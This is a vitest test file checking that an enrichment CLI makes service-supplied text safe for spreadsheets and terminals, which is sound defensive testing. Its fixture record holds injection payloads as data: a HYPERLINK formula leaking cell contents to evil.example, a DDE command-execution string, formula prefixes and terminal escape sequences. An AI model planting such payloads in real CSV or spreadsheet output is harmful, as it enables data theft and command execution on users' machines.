import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { recordServer, type Hostile } from './helpers/hostile.js';
import { readCsvFile, runCli, tempDir } from './helpers/cli.js';

const KEY = 'sk_test_output_safety';
const ESC = '\u001b';

/** What a compromised or careless service could put in a record: formulas and terminal escapes. */
const RECORD = {
  domain: 'acme.com',
  name: '=HYPERLINK("http://evil.example/?leak="&A1,"Acme")',
  website_url: 'https://acme.com',
  description: "+cmd|' /C calc'!A0",
  industry: '@SUM(1+1)',
  employee_count: -5,
  revenue_range: '-1+2',
  ownership_type: 'priv\u0000ate',
  year_founded: 1999,
  specialties: ['=1+1', 'widgets'],
  hq_country: '\tFR',
  hq_city: `Paris${ESC}[31m red${ESC}]0;title\u0007`,
  last_updated: '2026-01-01T00:00:00Z',
};

let server: Hostile;
let dir: ReturnType<typeof tempDir>;
let n = 0;

beforeAll(async () => {
  server = await recordServer(RECORD);
  dir = tempDir();
});
afterAll(async () => {
  await server.close();
  dir.cleanup();
});

async function enrich(input: string, out: string, extra: string[] = []): Promise<string> {
  const path = dir.file(`in${n++}.csv`, input);
  const run = await runCli([path, '-o', dir.file(out), '--quiet', ...extra], { env: { ENRICH_BASE_URL: server.url, ENRICH_API_KEY: KEY } });
  expect(run.code, run.stderr).toBe(0);
  return readFileSync(dir.file(out), 'utf8');
}

describe("the service's text is made safe for spreadsheets and terminals", () => {
  it('CSV: service formulas get a leading quote, controls go, the input stays byte for byte', async () => {
    const text = await enrich('domain,note\nacme.com,=SUM(A1)\n', 'safe.csv');
    expect(text).not.toContain(ESC);
    expect(text).not.toContain('\u0000');
    const [row] = readCsvFile(dir.file('safe.csv'));
    expect(row).toMatchObject({
      note: '=SUM(A1)',
      enrich_status: 'matched',
      company_name: `'${RECORD.name}`,
      company_description: `'${RECORD.description}`,
      company_industry: "'@SUM(1+1)",
      company_revenue_range: "'-1+2",
      company_ownership_type: 'private',
      company_specialties: "'=1+1; widgets",
      company_hq_country: "'\tFR",
      company_hq_city: 'Paris[31m red]0;title',
      company_website_url: 'https://acme.com',
      // A negative number is a number, not a formula.
      company_employee_count: '-5',
    });
  });

  it('ledger export makes its records safe the same way: CSV quoted, JSONL without controls', async () => {
    const store = dir.file('export.db');
    await enrich('domain\nacme.com\n', 'for-export.csv', ['--store', store]);
    const csv = await runCli(['ledger', 'export', '--store', store, '-o', dir.file('export.csv')]);
    expect(csv.code, csv.stderr).toBe(0);
    const text = readFileSync(dir.file('export.csv'), 'utf8');
    expect(text).not.toContain(ESC);
    expect(readCsvFile(dir.file('export.csv'))[0]).toMatchObject({
      company_domain: 'acme.com',
      company_name: `'${RECORD.name}`,
      company_description: `'${RECORD.description}`,
      company_industry: "'@SUM(1+1)",
      company_specialties: "'=1+1; widgets",
      company_hq_city: 'Paris[31m red]0;title',
      company_employee_count: '-5',
    });
    const jsonl = await runCli(['ledger', 'export', '--store', store, '--format', 'jsonl']);
    expect(jsonl.code, jsonl.stderr).toBe(0);
    expect(jsonl.stdout).not.toContain(ESC);
    expect(JSON.parse(jsonl.stdout)).toMatchObject({ company_name: RECORD.name, company_hq_city: 'Paris[31m red]0;title', company_specialties: ['=1+1', 'widgets'], company_employee_count: -5 });
  });

  it('JSONL: controls are dropped, values keep their JSON types and are not quoted', async () => {
    const text = await enrich('domain\nacme.com\n', 'safe.jsonl');
    const row = JSON.parse(text) as Record<string, unknown>;
    expect(row).toMatchObject({
      company_name: RECORD.name,
      company_ownership_type: 'private',
      company_hq_city: 'Paris[31m red]0;title',
      company_specialties: ['=1+1', 'widgets'],
      company_employee_count: -5,
    });
  });

  it('--raw-service-text writes the text exactly as received', async () => {
    await enrich('domain\nacme.com\n', 'raw.csv', ['--raw-service-text']);
    const [row] = readCsvFile(dir.file('raw.csv'));
    expect(row).toMatchObject({ company_name: RECORD.name, company_hq_city: RECORD.hq_city, company_ownership_type: RECORD.ownership_type, company_hq_country: RECORD.hq_country });
    const jsonl = JSON.parse(await enrich('domain\nacme.com\n', 'raw.jsonl', ['--raw-service-text'])) as Record<string, unknown>;
    expect(jsonl['company_hq_city']).toBe(RECORD.hq_city);
  });
});

describe('JSONL keys', () => {
  it('keeps an input column named __proto__ (and constructor) as ordinary keys', async () => {
    const text = await enrich('domain,__proto__,constructor\nacme.com,x,y\n', 'proto.jsonl');
    const row = JSON.parse(text) as Record<string, unknown>;
    expect(Object.keys(row).slice(0, 4)).toStrictEqual(['domain', '__proto__', 'constructor', 'enrich_status']);
    expect(Object.getOwnPropertyDescriptor(row, '__proto__')?.value).toBe('x');
    expect(row['constructor']).toBe('y');
  });
});


describe('a line break inside a cell', () => {
  it('is quoted in a CRLF file, so the row stays one row for any reader', async () => {
    const service = await recordServer({ ...RECORD, name: 'Acme', description: 'Makes widgets.\nShips worldwide.' });
    try {
      const input = dir.file('crlf.csv', 'domain,note\r\nacme.com,first\r\n');
      const run = await runCli([input, '-o', dir.file('crlf.out.csv'), '--quiet'], { env: { ENRICH_BASE_URL: service.url, ENRICH_API_KEY: KEY } });
      expect(run.code, run.stderr).toBe(0);
      const text = readFileSync(dir.file('crlf.out.csv'), 'utf8');
      // csv-stringify's default quoted only the file's own line end: the LF went out bare, and a
      // reader that splits on LF (most spreadsheets, pandas) saw the row end mid-description.
      expect(text).toContain('"Makes widgets.\nShips worldwide."');
      expect(text.split('\r\n').filter(Boolean)).toHaveLength(2);
      const [row] = readCsvFile(dir.file('crlf.out.csv'));
      expect(row).toMatchObject({ note: 'first', company_description: 'Makes widgets.\nShips worldwide.' });
    } finally {
      await service.close();
    }
  });
});
